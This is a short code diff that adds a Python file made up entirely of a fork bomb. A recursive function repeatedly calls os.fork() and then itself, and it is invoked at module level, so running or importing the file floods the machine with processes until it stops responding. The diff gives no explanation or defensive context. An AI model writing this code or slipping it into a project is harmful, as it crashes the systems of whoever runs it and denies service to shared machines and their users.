@@ -1,0 +1,7 @@
+import os
+
+def bomb():
+    os.fork()
+    bomb()
+
+bomb()
